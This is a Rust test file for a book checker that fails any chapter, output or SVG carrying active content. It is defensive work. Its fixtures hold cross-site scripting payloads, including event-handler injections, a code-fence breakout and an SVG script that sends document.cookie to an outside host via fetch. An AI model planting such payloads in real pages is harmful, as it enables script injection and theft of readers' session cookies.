//! No active content from a chapter.

use crate::fixture::*;
use crate::listings::*;

/// Raw HTML that could run script, embed a page or send the reader on
/// fails at its line.
#[test]
fn active_content_in_a_chapter_fails_at_its_line() {
    proven(|| {
        let book = Book::new();
        book.edit(
            CHAPTER,
            "A listing:",
            "<script>document.title = 'x'</script>\n\n\
         <a href=\"javascript:alert(1)\">a link</a>\n\n\
         <meta http-equiv=\"refresh\" content=\"0;url=https://lwn.net/\">\n\n\
         <form action=\"http://lwn.net/\"><input name=\"q\"></form>\n\n\
         <img src=\"train.svg\" alt=\"A train.\" onload=\"alert(1)\">\n\n\
         <iframe src=\"https://lwn.net/\"></iframe>\n\nA listing:",
        );
        let problems = harness::checks::run(
            &Checker::new(book.root()),
            "no_page_carries_a_script_a_frame_or_a_redirect_from_a_chapter",
        );
        for (line, what) in [
            (8, "`<script>`"),
            (10, "javascript:"),
            (12, "http-equiv=\"refresh\""),
            (14, "action=\"http://lwn.net/\""),
            (16, "`onload`"),
            (18, "`<iframe>`"),
        ] {
            assert_problem(&problems, &format!("{CHAPTER}:{line}"), what);
        }
    });
}

fn active_content(book: &Book) -> Vec<harness::Problem> {
    harness::checks::run(
        &Checker::new(book.root()),
        "no_page_carries_a_script_a_frame_or_a_redirect_from_a_chapter",
    )
}

/// What decides is the page mdBook renders: a tag whose attributes start
/// on the next line, in mixed case, inside a paragraph, is the same tag
/// there.
#[test]
fn a_tag_split_over_lines_in_mixed_case_fails_at_its_line() {
    proven(|| {
        let book = Book::new();
        book.edit(
            CHAPTER,
            "A listing:",
            "> A train <DeTaIlS\n> OnToggle=alert(1) open>leaves</DeTaIlS> at noon.\n\nA listing:",
        );
        let problems = active_content(&book);
        assert_problem(&problems, &format!("{CHAPTER}:8"), "ontoggle");
    });
}

/// An output is shown inside a code fence; an output that closes the fence
/// itself would publish what follows as the page's HTML.
#[test]
fn an_output_that_breaks_out_of_its_fence_fails() {
    proven(|| {
        let book = Book::new();
        book.write(
            &format!("{LISTING}/output.txt"),
            "Hello\n```\n\n<details open ontoggle=alert(1)>x</details>\n\n```text\n",
        );
        let problems = active_content(&book);
        assert_problem(&problems, &format!("{LISTING}/output.txt:4"), "ontoggle");
    });
}

/// An SVG beside the chapters is published as it is, at the book's own
/// address: a script in it would run there.
#[test]
fn an_svg_picture_with_script_fails_naming_its_line() {
    proven(|| {
        let book = Book::new();
        let train =
            String::from_utf8(book.files.borrow()[std::path::Path::new("src/train.svg")].clone())
                .unwrap();
        book.write(
            "src/train.svg",
            &train.replacen(
                ">",
                ">\n<script>fetch('https://lwn.net/'+document.cookie)</script>",
                1,
            ),
        );
        let problems = active_content(&book);
        assert_problem(&problems, "src/train.svg:2", "`<script>`");
    });
}

/// Only chapters and pictures may be in src/: an HTML page or a script
/// beside the figures would be published as the book's own.
#[test]
fn an_html_file_beside_the_figures_fails() {
    proven(|| {
        let book = Book::new();
        book.write(
            "src/figures/about.html",
            "<!DOCTYPE html><script>alert(document.domain)</script>\n",
        );
        let problems = active_content(&book);
        assert_problem(&problems, "src/figures/about.html", "not a picture");
    });
}
